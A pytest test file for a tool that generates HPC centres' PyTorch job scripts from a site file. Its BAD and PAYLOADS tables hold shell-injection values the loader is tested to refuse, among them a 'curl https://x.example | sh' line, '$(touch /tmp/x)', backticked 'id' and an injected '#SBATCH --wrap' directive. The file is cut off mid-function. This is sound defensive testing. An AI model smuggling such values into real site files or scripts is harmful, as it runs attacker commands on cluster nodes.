"""A centre's edition: the site file, the generated job scripts, site-check's plan, the build.

The runs of site-check against the tests' Slurm cluster, Grid Engine cell and OpenPBS complex are
in test_slurm.py, test_gridengine.py and test_pbs_site.py, beside the other tests that use them.
"""

import html
import json
import re
import sys
import tomllib
from pathlib import Path

import pytest
from recorded import check_recorded

from conftest import (
    CENTRE_SITES,
    EXAMPLES,
    ROOT,
    TEST_SITES,
    build_edition,
    page_text,
    require_command,
    run,
)

EDITION = ROOT / "edition"
TEMPLATE = EDITION / "template.toml"
sys.path.insert(0, str(EDITION))
import site_check  # noqa: E402

from generate import CONDA_FILES, Context, GenerateError, generate, generate_text, omitted  # noqa: E402
from sitefile import SCHEMA, SiteFileError, load  # noqa: E402

SITES = {"template": TEMPLATE, **TEST_SITES, **CENTRE_SITES}
JOB_SCRIPTS = sorted(str(p.relative_to(EXAMPLES)) for s in ("*.sbatch", "*.qsub", "*.pbs")
                     for p in EXAMPLES.rglob(s))  # fmt: skip
SUFFIX = {"slurm": ".sbatch", "gridengine": ".qsub", "pbs": ".pbs"}
GPU_FORM = {"slurm": "--gpus-per-node={n}", "gridengine": "-l gpu={n}", "pbs": "ngpus={n}"}
BLOCK = re.compile(r"^# --- Site-specific.*?\n(.*?)^# -{20,}$", re.M | re.S)


def minimal(tmp_path, scheduler="slurm", **changes):
    """A site file with only the required keys (and changes: {"section.key": value or None})."""
    data = {
        "centre": {"name": "Minimal HPC", "documentation": "https://hpc.example.org"},
        "scheduler": {"kind": scheduler, "cpu_partition": "", "gpu_partition": "gpu",
                      "gpus": GPU_FORM[scheduler]},
        "modules": {"python": []},
        "environment": {"venv": "$HOME/venv"},
        "storage": {"node_local": "TMPDIR", "scratch": "$SCRATCH", "project": "$PROJECT"},
        "pytorch": {"build": "default"},
    }  # fmt: skip
    if scheduler == "gridengine":
        data["scheduler"]["parallel_environment"] = "smp"
    for dotted, value in changes.items():
        section, key = dotted.split(".")
        if value is None:
            data.setdefault(section, {}).pop(key, None)
        else:
            data.setdefault(section, {})[key] = value
    lines = []
    for section, values in data.items():
        lines.append(f"[{section}]")
        lines += [f"{key} = {json.dumps(value)}" for key, value in values.items()]
    path = tmp_path / "site.toml"
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.mark.parametrize("name", SITES)
def test_the_template_and_the_tests_site_files_are_valid(name):
    out = run([sys.executable, EDITION / "sitefile.py", SITES[name]], cwd=ROOT).stdout
    assert "a valid site file for" in out


def test_the_template_sets_every_key_of_the_schema():
    """A maintainer learns the file from the template: every key is in it, set or commented."""
    text = TEMPLATE.read_text()
    for section, keys in SCHEMA.items():
        assert f"[{section}]" in text
        for key in keys:
            assert re.search(rf"^#? ?{key} = ", text, re.M), (
                f"{section}.{key} is not in the template"
            )


BAD = {
    "unknown key": ({"scheduler.partiton": "gpu"}, "unknown key scheduler.partiton"),
    "unknown section": ({"slurm.partition": "gpu"}, "unknown section [slurm]"),
    "missing partition": ({"scheduler.gpu_partition": None}, "scheduler.gpu_partition is missing"),
    "unknown GPU form": ({"scheduler.gpus": "--gpus={n}"}, "'--gpus={n}' is not a known form"),
    "GPU form of the other scheduler": ({"scheduler.gpus": "-l gpu={n}"}, "scheduler.gpus"),
    "wrong type": ({"scheduler.cores_per_gpu": "8"}, "cores_per_gpu must be a whole number"),
    "bad size": ({"scheduler.memory_per_gpu": "64 GB"}, "scheduler.memory_per_gpu must be a size"),
    "unknown scheduler": ({"scheduler.kind": "lsf"},
                          "scheduler.kind must be slurm, gridengine or pbs"),
    "unknown build": ({"pytorch.build": "cu118"}, "pytorch.build must be default, cu130"),
    # What a site file must not do: put a line of its own into the scripts, or a command.
    "a directive in the name": ({"centre.name": 'HPC\n#SBATCH --wrap="id"'},
                                "centre.name must be one line without control characters"),
    "a command in the name": ({"centre.name": "HPC $(touch /tmp/x)"}, "centre.name must be a name"),
    "a command after init": ({"modules.init": ["/etc/profile.d/modules.sh\ncurl x | sh"]},
                             "modules.init must be one line"),
    "a command as init": ({"modules.init": ["curl https://x.example | sh"]},
                          "modules.init must be absolute paths of files to source"),
    "a command in the index": ({"pytorch.index_url": "https://x.example/$(touch${IFS}/tmp/x)"},
                               "pytorch.index_url must be an http(s) address"),
    "a command in the documentation": ({"centre.documentation": "https://x.example/`id`"},
                                       "centre.documentation must be an http(s) address"),
    "a carriage return in a path": ({"storage.scratch": "/scratch\r"},
                                    "storage.scratch must be one line"),
    "an empty module": ({"modules.python": [""]}, "modules.python has an empty item"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_a_bad_site_file_stops_with_one_line_naming_the_key(tmp_path, case):
    changes, message = BAD[case]
    path = minimal(tmp_path, **changes)
    proc = run([sys.executable, EDITION / "sitefile.py", path], cwd=ROOT, expect_rc=1)
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith(f"site file: error: {path}: ") and message in proc.stderr, (
        proc.stderr
    )


TEXT_KEYS = [f"{section}.{key}" for section, keys in SCHEMA.items()
             for key, spec in keys.items() if spec.kind in (str, list)]  # fmt: skip


@pytest.mark.parametrize("dotted", TEXT_KEYS)
def test_no_text_value_can_hold_a_second_line(tmp_path, dotted):
    """A new line in a value would be a line of its own in a job script: a directive or a
    command. Every text key refuses one, and every list item."""
    section, key = dotted.split(".")
    spec = SCHEMA[section][key]
    value = "x\n#SBATCH --wrap=id"
    path = minimal(tmp_path, **{dotted: [value] if spec.kind is list else value})
    with pytest.raises(SiteFileError, match=rf"{dotted} must be one line without control"):
        load(path)


# What a shell or a scheduler would read as more than a value: a command substitution, a
# second command, a quote that ends a string. A value reaches job scripts, Makefiles and shell
# lines, so every text key refuses each of them (a centre's name may hold an apostrophe and
# brackets: it only ever goes into comments and pages).
PAYLOADS = {
    "substitution": "x$(id)",
    "backticks": "x`id`",
    "second command": "x; id",
    "double quote": 'x"y',
    "single quote": "x'y",
    "glob": "x*",
    "space and option": "x -o y",
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("dotted", TEXT_KEYS)
def test_no_text_value_can_hold_shell_syntax(tmp_path, dotted, payload):
    section, key = dotted.split(".")
    spec = SCHEMA[section][key]
    value = PAYLOADS[payload]
    if dotted == "centre.name" and payload in ("single quote", "space and option"):
        value = "x$y"  # allowed in a name: try its dollar instead
    if dotted.endswith("directives"):
        value = "--constraint=" + value
    scheduler = "gridengine" if key in ("group", "cpu_resource", "node_resource") else "slurm"
    scheduler = "pbs" if key == "node_queue" else scheduler
    path = minimal(tmp_path, scheduler, **{dotted: [value] if spec.kind is list else value})
    with pytest.raises(SiteFileError, match=rf"{dotted}( must be |: .* is not a known form)"):
        load(path)


def test_a_site_file_that_is_not_utf8_stops_with_one_line(tmp_path):
    path = tmp_path / "site.toml"
    path.write_bytes('[centre]\nname = "Universit\u00e9 HPC"\n'.encode("latin-1"))
    proc = run([sys.executable, EDITION / "sitefile.py", path], cwd=ROOT, expect_rc=1)
    assert proc.stderr == (
        f"site file: error: {path}: not UTF-8 text (byte 0xe9 at offset 26): save it as UTF-8\n"
    )


def test_a_qos_goes_into_every_slurm_job(tmp_path):
    """A centre where every job must name its QoS (refused otherwise): every Slurm script of
    its edition asks for it, beside the account; a Grid Engine site cannot set one."""
    generate(load(minimal(tmp_path, **{"scheduler.qos": "normal"})), tmp_path)
    for name in SLURM_SCRIPTS:
        text = (tmp_path / "examples" / name).read_text()
        assert re.search(r"^#SBATCH --qos=normal +# site.toml: scheduler.qos$", text, re.M), name
    with pytest.raises(SiteFileError, match="scheduler.qos is for Slurm sites only"):
        load(minimal(tmp_path, "gridengine", **{"scheduler.qos": "normal"}))


def test_containers_bind_the_sites_folders(editions):
    """Apptainer binds the centre's project, scratch and datasets folders, not the generic
    /project and /scratch."""
    text = (editions["template"][1] / "containers" / "apptainer.sbatch").read_text()
    assert re.search(r"^BIND=\$\{BIND-/project/\$USER,\$SCRATCH,/datasets\} ", text, re.M), text
    minimal_text = (editions["minimal"][1] / "containers" / "apptainer.sbatch").read_text()
    assert re.search(r"^BIND=\$\{BIND-\$PROJECT,\$SCRATCH\} ", minimal_text, re.M)
    # The image (gigabytes) is in project space, not in a home with a small quota.
    assert re.search(r"^IMAGE=\$\{IMAGE:-/project/\$USER/containers/pytorch\.sif\} ", text, re.M)


def test_site_check_builds_the_image_where_the_edition_looks_for_it(tmp_path):
    """site-check's preparation builds the image, and keeps Apptainer's cache, in the
    site's project space: where the edition's apptainer.sbatch looks for the image."""
    only = ["--only", "containers/apptainer.sbatch", "--work-dir", tmp_path]
    proc = run([sys.executable, EDITION / "site_check.py", TEMPLATE, "--dry-run", *only], cwd=ROOT)
    line = next(line for line in proc.stdout.splitlines() if "apptainer.sbatch:" in line)
    assert 'APPTAINER_CACHEDIR="/project/$USER/containers/cache" apptainer build ' in line, line
    assert 'apptainer build "/project/$USER/containers/pytorch.sif" pytorch.def' in line, line
    assert "~" not in line and "$HOME" not in line, line


def test_an_optional_gpu_stays_off_in_the_edition(editions):
    """preemptible.sbatch is a CPU job that may ask for a GPU (a commented line): its edition
    asks for none, rather than for a GPU in the CPU partition with a CPU job's cores."""
    generic = (EXAMPLES / "preemption" / "preemptible.sbatch").read_text()
    assert "##SBATCH --gpus-per-node=1" in generic
    text = (editions["template"][1] / "preemption" / "preemptible.sbatch").read_text()
    assert "gpu" not in "".join(re.findall(r"^#SBATCH .*$", text, re.M)).lower(), text


SLURM_SCRIPTS = [name for name in JOB_SCRIPTS if name.endswith(".sbatch")]


@pytest.mark.parametrize("name", SLURM_SCRIPTS)
def test_the_node_local_folder_is_the_sites(node_local_edition, name):
    """A site whose jobs get their node-local folder in TMPDIR (storage.node_local): no line
    of its scripts reads SLURM_TMPDIR, which is set at other sites only."""
    code = [re.sub(r"\s+#\s.*$", "", line)  # without its comment
            for line in (node_local_edition / name).read_text().splitlines()
            if not line.lstrip().startswith("#")]  # fmt: skip
    assert not [line for line in code if "SLURM_TMPDIR" in line]


@pytest.fixture(scope="module")
def node_local_edition(tmp_path_factory):
    folder = tmp_path_factory.mktemp("node-local")
    generate(load(minimal(folder, **{"storage.node_local": "TMPDIR"})), folder)
    return folder / "examples"


def test_a_site_file_that_is_not_toml_stops_with_one_line(tmp_path):
    path = tmp_path / "site.toml"
    path.write_text("[centre]\nname = Example\n")
    proc = run([sys.executable, EDITION / "sitefile.py", path], cwd=ROOT, expect_rc=1)
    assert proc.stderr.count("\n") == 1 and "not valid TOML" in proc.stderr, proc.stderr


def test_make_html_with_a_bad_site_file_stops_before_building(tmp_path):
    path = minimal(tmp_path, **{"scheduler.acount": "x"})
    proc = run(["make", "--no-print-directory", "html", f"SITE={path}", f"BUILDDIR={tmp_path}"],
               cwd=ROOT, expect_rc=2)  # fmt: skip
    assert f"site file: error: {path}: unknown key scheduler.acount" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr and "sphinx" not in proc.stdout.lower(), proc.stdout
    assert not list(tmp_path.glob("**/*.html"))


@pytest.fixture(scope="module")
def editions(tmp_path_factory):
    """The edition of the template, of a site file with only the required keys, and of the
    tests' cluster and cell: {name: (site, examples folder, changed files)}."""
    out = {}
    kinds = {"minimal": "slurm", "minimal-ge": "gridengine", "minimal-pbs": "pbs"}
    for name, path in [*SITES.items(), *((name, None) for name in kinds)]:
        folder = tmp_path_factory.mktemp(name)
        if path is None:
            path = minimal(folder, kinds[name])
        site = load(path)
        out[name] = (site, folder / "examples", generate(site, folder))
    return out


@pytest.mark.parametrize("name", [*SITES, "minimal", "minimal-ge", "minimal-pbs"])
def test_every_job_script_of_the_scheduler_is_filled_in(editions, name):
    site, folder, changed = editions[name]
    suffix = SUFFIX[site.scheduler]
    for script in JOB_SCRIPTS:
        if script in omitted(site):
            assert not (folder / script).exists(), script
            continue
        text = (folder / script).read_text()
        if not script.endswith(suffix):
            assert text == (EXAMPLES / script).read_text(), f"{script}: another scheduler's script"
            continue
        assert script in changed
        assert "##SBATCH" not in text and "##PBS" not in text and "uncomment" not in text, script
        assert f"# --- Site-specific: {site.name}, generated from site.toml" in text, script


def outside_blocks(text):
    return BLOCK.sub("", text).splitlines()


@pytest.mark.parametrize("name", [*SITES, "minimal", "minimal-pbs"])
def test_only_the_blocks_and_the_gpu_request_cores_and_memory_change(editions, name):
    """A maintainer can trust the diff: outside the blocks, only the resource lines change."""
    _site, folder, changed = editions[name]
    assert changed
    for script in changed:
        before = outside_blocks((EXAMPLES / script).read_text())
        after = outside_blocks((folder / script).read_text())
        assert len(before) == len(after), script
        for old, new in zip(before, after, strict=True):
            if old != new:
                assert re.match(r"#SBATCH --(gpus-per-node|cpus-per-task|mem)=", old), (script, old)
                assert re.match(r"#SBATCH --(gres=gpu:|gpus-per-node=|cpus-per-task=|mem=)", new), (
                    new
                )


def test_the_template_gives_gpu_jobs_their_cores_and_memory_per_gpu(editions):
    _site, folder, _changed = editions["template"]
    expected = {  # script: (cores, memory) with 8 cores and 64G per GPU
        "ddp/ddp_torchrun.sbatch": (16, "128G"),  # one task per node with 2 GPUs
        "ddp/ddp_srun.sbatch": (8, "128G"),  # two tasks per node, one GPU each
        "one-gpu/cnn_gpu.sbatch": (8, "64G"),
    }
    for script, (cores, memory) in expected.items():
        text = (folder / script).read_text()
        assert re.search(
            rf"^#SBATCH --cpus-per-task={cores} +# site.toml: 8 cores per GPU$", text, re.M
        )
        assert re.search(rf"^#SBATCH --mem={memory} +# site.toml: 64G per GPU$", text, re.M)
    cpu_job = (folder / "cpu-threads/cnn_cpu.sbatch").read_text()
    assert cpu_job.count("site.toml: 8 cores") == 0 and "--partition=cpu " in cpu_job
    # Every GPU job, whether it asks for its GPUs in the header or in a site-specific block
    # (libtorch.sbatch), gets the cores and memory per GPU where it names cores and memory.
    for script in SLURM_SCRIPTS:
        text = (folder / script).read_text()
        if "# site.toml: scheduler.gpus" in text:
            for line in re.findall(r"^#SBATCH --(?:cpus-per-task|mem)=.*$", text, re.M):
                assert "per GPU" in line, f"{script}: {line}"


def test_the_tests_cluster_edition_asks_for_gpus_its_way(editions):
    _site, folder, _changed = editions["slurm"]
    text = (folder / "ddp/ddp_torchrun.sbatch").read_text()
    assert "#SBATCH --gres=gpu:2 " in text and "--gpus-per-node" not in text.split("set -euo")[0]
    assert "#SBATCH --partition=debug " in text and "#SBATCH --account=tests " in text
    preemptible = (folder / "preemption/preemptible.sbatch").read_text()
    assert "--gres" not in preemptible  # the commented GPU line stays off: a CPU job
    _site, folder, _changed = editions["gridengine"]
    qsub = (folder / "first-job/check_pytorch.qsub").read_text()
    directives = [line for line in qsub.splitlines() if line.startswith("#$ ")]
    assert "#$ -q all.q" in directives and "#$ -l gpu=1" in directives
    assert not [line for line in directives if "#" in line[2:]], (
        "Grid Engine reads a comment as options"
    )


def test_without_optional_keys_the_optional_lines_go(editions):
    _site, folder, _changed = editions["minimal"]
    text = (folder / "ddp/ddp_torchrun.sbatch").read_text()
    assert "--account" not in text and "--partition=gpu " in text
    assert (
        "--partition" not in (folder / "cpu-threads/cnn_cpu.sbatch").read_text().split("set -e")[0]
    )
    assert "--constraint" not in (folder / "benchmark/resnet_benchmark.sbatch").read_text()
    assert "module load" not in (folder / "first-job/check_pytorch.sbatch").read_text()


def test_a_block_line_without_a_rule_stops_the_generation():
    site = load(TEMPLATE)
    text = "#!/bin/bash\n# --- Site-specific: adapt ---\nexport FOO=bar\n# " + "-" * 30 + "\n"
    with pytest.raises(GenerateError, match=r"^x\.sbatch:3: .* no rule for: export FOO=bar$"):
        generate_text(site, "x.sbatch", text)


@pytest.mark.parametrize("name", ["template", "slurm", "gridengine", "pbs", "abci3-pbs"])
def test_the_generated_scripts_pass_shellcheck(editions, name):
    require_command("shellcheck", "apt-get install shellcheck (make system-packages)")
    _site, folder, changed = editions[name]
    scripts = [folder / s for s in changed]
    run(["shellcheck", "--shell=bash", "-x", *scripts], cwd=folder)


def test_checks_toml_has_an_entry_for_every_job_script_and_its_files_exist():
    checks = tomllib.loads((EDITION / "checks.toml").read_text())
    assert sorted(checks) == JOB_SCRIPTS, "add the job script to edition/checks.toml"
    for name, settings in checks.items():
        for file in settings.get("files", []):
            assert (EXAMPLES / file).is_file(), (name, file)
        if "after" in settings:
            assert settings["after"] in checks


@pytest.mark.parametrize("scheduler", ["slurm", "gridengine", "pbs"])
def test_site_check_dry_run_prints_every_submission_and_submits_nothing(tmp_path, scheduler):
    suffix = SUFFIX[scheduler]
    proc = run([sys.executable, EDITION / "site_check.py", TEST_SITES[scheduler], "--dry-run",
                "--work-dir", tmp_path], cwd=ROOT, env={"PATH": "/usr/bin:/bin"})  # fmt: skip
    scripts = [s for s in JOB_SCRIPTS if s.endswith(suffix)]
    lines = [line for line in proc.stdout.splitlines() if line.startswith("  ")]
    assert sorted(line.split(":")[0].strip() for line in lines) == scripts, proc.stdout
    assert proc.stdout.rstrip().endswith("Dry run: nothing submitted."), proc.stdout
    assert not (tmp_path / "jobs").exists()
    tool = {"slurm": "sbatch --parsable", "gridengine": "qsub -terse", "pbs": " qsub -"}
    assert all(tool[scheduler] in line for line in lines), lines
    if scheduler == "slurm":
        assert any(
            "'--dependency=afterok:<id of arrays/sweep.sbatch>'" in line for line in lines
        ), lines
    if scheduler == "pbs":  # no arguments after the script: they travel in ARGS
        assert all(line.endswith(".pbs") and "-terse" not in line for line in lines), lines
        assert "qsub -v 'ARGS=--size 256' check_pytorch.pbs" in proc.stdout, proc.stdout
        assert ("qsub -W 'depend=afterany:<id of arrays/sweep.pbs>' -v SWEEP_DIR=sweeps/site-check"
                " collect.pbs") in proc.stdout, proc.stdout  # fmt: skip


def test_site_check_without_a_scheduler_says_where_to_run_it(tmp_path):
    proc = run([sys.executable, EDITION / "site_check.py", TEST_SITES["slurm"], "--work-dir",
                tmp_path], cwd=ROOT, env={"PATH": "/nonexistent"}, expect_rc=1)  # fmt: skip
    assert proc.stderr == (
        "site_check.py: error: sbatch not found: "
        "run it on a login node of the tests' Slurm cluster\n"
    )


def test_the_recorded_diff_on_the_centres_page_is_what_generate_makes(editions):
    """The "For HPC centres" page shows what the template's site file changes in one script."""
    _site, folder, _changed = editions["template"]
    name = "ddp/ddp_torchrun.sbatch"
    proc = run(["diff", "-u", "--label", f"examples/{name}", "--label", f"edition/{name}",
                EXAMPLES / name, folder / name], cwd=ROOT, expect_rc=1)  # fmt: skip
    check_recorded(EDITION / "template-ddp_torchrun.diff", proc.stdout)


def test_the_recorded_message_on_the_centres_page_is_what_sitefile_prints(tmp_path):
    """The "For HPC centres" page shows the message for a misspelt key."""
    minimal(tmp_path, **{"scheduler.partiton": "gpu"})
    proc = run([sys.executable, EDITION / "sitefile.py", "site.toml"], cwd=tmp_path, expect_rc=1)
    check_recorded(EDITION / "bad-site.out", proc.stderr)


@pytest.mark.parametrize(("gpus", "category", "count"), [
    ("-l gpu={n}", "-U users -l gpu=2,h_rt=600 -pe smp 8", 2),
    ("-l rt_G.small={n}", "-l h_rt=600,rt_G.small=1 -g grp", 1),
    ("-l rt_G.small={n}", "-l h_rt=600,rt_G.small=1,gpu=4", 1),  # another resource's count
    ("-l gpu={n}", "-l h_rt=600,rt_G.small=1", 0),
])  # fmt: skip
def test_site_check_counts_a_grid_engine_jobs_gpus_by_the_sites_resource(
    tmp_path, gpus, category, count
):
    site = load(minimal(tmp_path, "gridengine", **{"scheduler.gpus": gpus}))
    assert site_check.gridengine_gpus(site, {"category": category}) == count


# What GPU jobs print (announce_gpu in the examples): each process its GPU's UUID, model and
# node; ranks that share a GPU (MPS) name it twice; horovodrun puts its prefix before the line;
# LibTorch names the index.
GPU_LOG = """Job 42: 8 processes on g[1-2]
GPU in use: 5e1d2c3a-0000-4000-8000-000000000001 (NVIDIA H100 80GB HBM3) on g1
GPU in use: 5e1d2c3a-0000-4000-8000-000000000002 (NVIDIA H100 80GB HBM3) on g1
[1]<stdout>:GPU in use: 5e1d2c3a-0000-4000-8000-000000000003 (NVIDIA H100 80GB HBM3) on g2
GPU in use: 5e1d2c3a-0000-4000-8000-000000000003 (NVIDIA H100 80GB HBM3) on g2
GPU in use: cuda:0 on g3
epoch 1: loss 2.2871, 5120 images/s
"""


def test_site_check_counts_the_gpus_that_the_jobs_output_says_ran():
    assert site_check.gpus_used(GPU_LOG) == (4, "NVIDIA H100 80GB HBM3")
    assert site_check.gpus_used("Result: PyTorch 2.13.0+cpu works on cpu\n") == (0, None)


@pytest.mark.parametrize(("site", "log", "outcome", "gpus"), [
    ("national-slurm", GPU_LOG, "passed", 4),
    ("national-slurm", "epoch 1: loss 2.2871, 512 images/s\n", "failed", 0),  # ran on the CPU
    ("slurm", "epoch 1: loss 2.2871, 512 images/s\n", "passed", 0),  # the tests' CPU build
])  # fmt: skip
def test_a_gpu_job_passes_site_check_only_when_its_output_names_a_gpu_that_ran(
    tmp_path, site, log, outcome, gpus
):
    """A GPU job of a site with a GPU build is run with --device cuda and must name the GPUs it
    ran on; the record counts those, beside the GPUs the scheduler gave (8 here)."""
    site = load(SITES[site])
    name = "ddp/ddp_srun.sbatch"
    job = site_check.Job(name, site_check.load_checks("slurm")[name], tmp_path)
    out = tmp_path / "slurm-42.out"
    out.write_text(log)
    record = {"JobState": "COMPLETED", "ExitCode": "0:0", "NodeList": "g[1-2]",
              "AllocTRES": "cpu=32,gres/gpu=8", "StdOut": str(out)}  # fmt: skip
    job.start = 0.0
    site_check.judge(site, job, [record])
    assert (job.outcome, job.info["gpus"], job.info["gpus_given"]) == (outcome, gpus, 8)
    command = site_check.command_for(site, job)
    assert ("--device" in command) == (site.get("pytorch.build") != "cpu"), command
    if outcome == "failed":
        assert job.message == (
            "it was given the GPU but its output names none that ran ('GPU in use:')"
        )


def test_every_gpu_job_of_site_check_asks_for_the_gpu():
    """Each GPU job whose program has a --device option gets gpu_args; a server (Jupyter) is
    judged by what it serves."""
    checks = tomllib.loads((EDITION / "checks.toml").read_text(encoding="utf-8"))
    sites = {".sbatch": load(CENTRE_SITES["national-slurm"]),
             ".qsub": load(CENTRE_SITES["abci-gridengine"]),
             ".pbs": load(CENTRE_SITES["abci3-pbs"])}  # fmt: skip
    missing = []
    for name, settings in checks.items():
        site = sites[Path(name).suffix]
        gpu_job = Context(site, (EXAMPLES / name).read_text()).gpu_job
        programs = [EXAMPLES / f for f in settings.get("files", []) if f.endswith((".py", ".cpp"))]
        chooses = any("--device" in p.read_text(encoding="utf-8") for p in programs)
        if gpu_job and chooses and not settings.get("server"):
            if settings.get("gpu_args") != ["--device", "cuda"]:
                missing.append(name)
    assert missing == []


def test_site_check_reads_the_versions_and_the_gpu_from_check_pytorchs_output():
    """On a real GPU node: the lines check_pytorch.py printed on the H200 of the GPU run."""

    class Job:
        log = (ROOT / "tests/records/gpu-run-2026-11-26-b/check_pytorch-cuda.out").read_text()

    assert site_check.versions({"first-job/check_pytorch.sbatch": Job()}) == {
        "torch": "2.11.0+cu130", "python": "3.12.3", "cuda": "13.0", "gpu": "NVIDIA H200",
    }  # fmt: skip


def test_a_centres_own_directives_go_into_its_jobs_by_kind(editions):
    """directives (every job), cpu_directives, gpu_directives: each job gets its own."""
    _site, national, _changed = editions["national-slurm"]
    gpu = (national / "one-gpu/cnn_gpu.sbatch").read_text()
    cpu = (national / "cpu-threads/cnn_cpu.sbatch").read_text()
    assert re.search(r"^#SBATCH --constraint=a100_80g +# site.toml: scheduler.gpu_directives$",
                     gpu, re.M)  # fmt: skip
    assert "--constraint" not in cpu and "#SBATCH --qos=normal" in cpu
    _site, h100, _changed = editions["h100-no-modules"]
    for name in SLURM_SCRIPTS:
        if name in CONDA_FILES:
            continue
        text = (h100 / name).read_text()
        assert "#SBATCH --mail-type=NONE " in text, name
        assert "--partition" not in text.split("set -e")[0], name  # no partition at this site
        gpu_job = Context(_site, (EXAMPLES / name).read_text()).gpu_job
        assert ("#SBATCH --constraint=cpu " in text) != gpu_job, name


def test_a_site_without_modules_cuda_module_or_conda(editions, tmp_path):
    """Centre 2: no module line anywhere, CUDA_MODULE="" (nvcc from PATH), no conda files."""
    site, folder, _changed = editions["h100-no-modules"]
    texts = {p.relative_to(folder).as_posix(): p.read_text() for p in folder.rglob("*")
             if p.suffix in (".sbatch", ".sh")}  # fmt: skip
    assert not [name for name, text in texts.items() if re.search(r"^module load", text, re.M)]
    for name in ("libtorch/build.sh", "libtorch/libtorch.sbatch", "horovod/install_horovod.sh"):
        assert re.search(r'^CUDA_MODULE="" ', texts[name], re.M), name
    assert omitted(site) == set(CONDA_FILES)
    assert not [name for name in CONDA_FILES if (folder / name).exists()]
    # site-check submits no conda job there; the template's plan (conda allowed) has one.
    for name, conda_job in (("h100-no-modules", False), ("template", True)):
        proc = run([sys.executable, EDITION / "site_check.py", SITES[name], "--dry-run",
                    "--work-dir", tmp_path / name], cwd=ROOT)  # fmt: skip
        assert ("install/check_pytorch_conda.sbatch:" in proc.stdout) == conda_job, proc.stdout
        assert "first-job/check_pytorch.sbatch:" in proc.stdout


def test_a_resource_type_site_asks_for_gpus_nodes_and_cpus_its_way(editions):
    """Centre 3 (ABCI's Grid Engine): a GPU job asks for its resource type and no slots, a
    CPU job for the CPU resource, every job names its group and no queue."""
    site, folder, _changed = editions["abci-gridengine"]
    directives = {name: re.findall(r"^#\$ (.*)$", (folder / name).read_text(), re.M)
                  for name in JOB_SCRIPTS if name.endswith(".qsub")}  # fmt: skip
    assert "-l rt_G.small=1" in directives["first-job/check_pytorch.qsub"]
    assert "-l rt_C.small=1" in directives["arrays/sweep.qsub"]
    for name, lines in directives.items():
        assert "-g gaa50000" in lines, name
        assert not [line for line in lines if line.startswith(("-pe", "-q"))], (name, lines)
    # A job that asks for every GPU of a node asks for the whole node.
    text = (EXAMPLES / "first-job/check_pytorch.qsub").read_text().replace("-l gpu=1", "-l gpu=4")
    assert "#$ -l rt_F=1\n" in generate_text(site, "x.qsub", text)
    assert "#$ -l rt_G.small=2\n" in generate_text(site, "x.qsub", text.replace("gpu=4", "gpu=2"))


SCHEDULER_KEYS = {  # a key of one scheduler in another's site file
    ("slurm", "scheduler.group"): "gaa50000",
    ("slurm", "scheduler.cpu_resource"): "-l rt_C.small=1",
    ("slurm", "scheduler.parallel_environment"): "smp",
    ("gridengine", "scheduler.qos"): "normal",
    ("gridengine", "scheduler.per_gpu"): True,
    ("pbs", "scheduler.qos"): "normal",
    ("pbs", "scheduler.group"): "gaa50000",
    ("pbs", "scheduler.node_resource"): "-l rt_F={nodes}",
    ("pbs", "scheduler.gpus_per_node"): 8,
    ("pbs", "scheduler.parallel_environment"): "smp",
    ("pbs", "scheduler.local_disk"): True,
    ("pbs", "scheduler.gpu_constraint"): "h100",
    ("slurm", "scheduler.queue_resources"): True,
    ("gridengine", "scheduler.node_queue"): "rt_HF",
}


@pytest.mark.parametrize("scheduler, dotted", SCHEDULER_KEYS)
def test_a_key_of_the_other_scheduler_stops_with_one_line(tmp_path, scheduler, dotted):
    path = minimal(tmp_path, scheduler, **{dotted: SCHEDULER_KEYS[scheduler, dotted]})
    with pytest.raises(SiteFileError, match=rf"{dotted} is for .* sites only"):
        load(path)


def test_directives_take_the_form_of_the_sites_scheduler(tmp_path):
    with pytest.raises(SiteFileError, match=r"scheduler.gpu_directives must be slurm long options"):
        load(minimal(tmp_path, **{"scheduler.gpu_directives": ["-C gpu"]}))
    with pytest.raises(SiteFileError, match=r"scheduler.directives must be gridengine options"):
        load(minimal(tmp_path, "gridengine", **{"scheduler.directives": ["--constraint=gpu"]}))
    with pytest.raises(SiteFileError, match="per_gpu needs scheduler.cores_per_gpu and"):
        load(minimal(tmp_path, **{"scheduler.per_gpu": True}))
    with pytest.raises(SiteFileError, match="node_resource and scheduler.gpus_per_node go tog"):
        load(minimal(tmp_path, "gridengine", **{"scheduler.node_resource": "-l rt_F={nodes}"}))


# What each centre's users type in the first job's interactive session, in its edition.
CENTRE_CONSOLE = {
    "national-slurm": [
        "$ salloc --time=00:30:00 --cpus-per-task=4 --mem=8G --gres=gpu:a100:1 "
        "--account=proj-12345 --qos=normal --partition=gpu --constraint=a100_80g\n",
        "$ module load StdEnv/2023 python/3.12\n",
        "$ source /project/proj-12345/$USER/venvs/pytorch/bin/activate\n",
    ],
    "h100-no-modules": [
        "$ salloc --time=00:30:00 --cpus-per-task=4 --mem=8G --gres=gpu:h100:1 "
        "--account=research --mail-type=NONE\n",
        "$ salloc --time=00:30:00 --cpus-per-task=4 --mem=8G --gres=gpu:h100:1 "
        "--account=research --mail-type=NONE\n[user@login ~]$ source $HOME/venvs/pytorch/",
    ],
    "abci-gridengine": [
        "$ qrsh -l h_rt=00:30:00 -l rt_G.small=1 -g gaa50000\n",
        "$ module load python/3.11/3.11.9\n",
    ],
    "abci3-pbs": [
        "$ qsub -I -l select=1 -l walltime=00:30:00 -P gaa50000 -q rt_HG\n",
        "$ module load python/3.12/3.12.9\n",
    ],
}
GENERIC_FOLDER = "https://github.com/pytorch-on-hpc/pytorch-on-hpc/tree/main/examples/first-job"
CENTRE_LINKS = {  # national-slurm names its repository: every folder link goes there
    "national-slurm": {"https://git.ncc.example.org/support/pytorch-on-hpc/tree/main/examples/"
                       "first-job"},
    "h100-no-modules": {GENERIC_FOLDER},  # its unchanged files only: the .py and .qsub
    "abci-gridengine": {GENERIC_FOLDER},  # its unchanged files only: the .py and .sbatch
    "abci3-pbs": {GENERIC_FOLDER},  # its unchanged files only: the .py, .sbatch and .qsub
}  # fmt: skip


@pytest.mark.parametrize("name", CENTRE_SITES)
def test_a_centres_pages_build_strictly_with_its_scripts(tmp_path, name):
    """The English pages of each centre's edition build with -W; its pages show its scripts,
    and where it forbids conda, the conda section says so instead of teaching it."""
    site = load(CENTRE_SITES[name])
    built = build_edition(CENTRE_SITES[name], tmp_path / "html")
